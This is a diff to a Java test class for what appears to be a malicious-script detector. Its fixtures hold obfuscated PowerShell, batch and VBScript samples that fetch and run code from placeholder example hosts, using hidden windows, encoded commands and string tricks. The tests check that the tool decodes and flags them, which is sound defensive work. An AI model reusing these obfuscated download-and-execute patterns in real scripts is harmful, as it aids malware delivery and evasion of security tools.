@@ -22,9 +22,7 @@ class ScriptsTest {
 
     @Test
     void puts_power_shell_together_as_it_would_itself() {
-        OpenedFile file = open(
-                "a.ps1",
-                """
+        OpenedFile file = open("a.ps1", """
                 $u = 'http://' + "a.exam" + 'ple/x'
                 $m = "{2}{0}{1}" -f 'wnload','String','Do'
                 $c = [char]105 + [char]101 + [char]120
@@ -33,8 +31,7 @@ class ScriptsTest {
                 $p = 'A#B'.Replace('#','-').Split('-') -join '+'
                 i`e`x (New-Object Net.WebClient).$m.Invoke($u)
                 """);
-        assertThat(file.all("Decoded"))
-                .contains("http://a.example/x", "DownloadString", "iex", "play", "A+B");
+        assertThat(file.all("Decoded")).contains("http://a.example/x", "DownloadString", "iex", "play", "A+B");
         assertThat(file.all("Script.Source").getFirst()).contains("iex (New-Object Net.WebClient)");
         assertThat(file.all("Url")).contains("http://a.example/x");
         assertThat(file.fact("script-runs-text")).isNotEmpty();
@@ -53,7 +50,8 @@ class ScriptsTest {
                 + "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()";
         OpenedFile file = open(
                 "a.bat",
-                "@echo off\r\nset \"q=hslepwor\"\r\n%q:~4,1%o%q:~5,1%ershell -nop -w hidden -e " + encoded(middle) + "\r\n");
+                "@echo off\r\nset \"q=hslepwor\"\r\n%q:~4,1%o%q:~5,1%ershell -nop -w hidden -e " + encoded(middle)
+                        + "\r\n");
         assertThat(file.all("Url")).contains("http://last.example/c");
         assertThat(file.fact("script-is-encoded")).isNotEmpty();
         assertThat(file.fact("script-hides")).isNotEmpty();
@@ -61,9 +59,7 @@ class ScriptsTest {
 
     @Test
     void follows_visual_basic_script_and_what_it_runs() {
-        OpenedFile file = open(
-                "a.vbs",
-                """
+        OpenedFile file = open("a.vbs", """
                 Set s = CreateObject("WScr" & "ipt.Shell")
                 s.Run "cmd /c pow^ershell -w hidden -c \"\"iwr " & StrReverse("x/elpmaxe.b//:ptth") & \"\"\"\", 0
                 """);
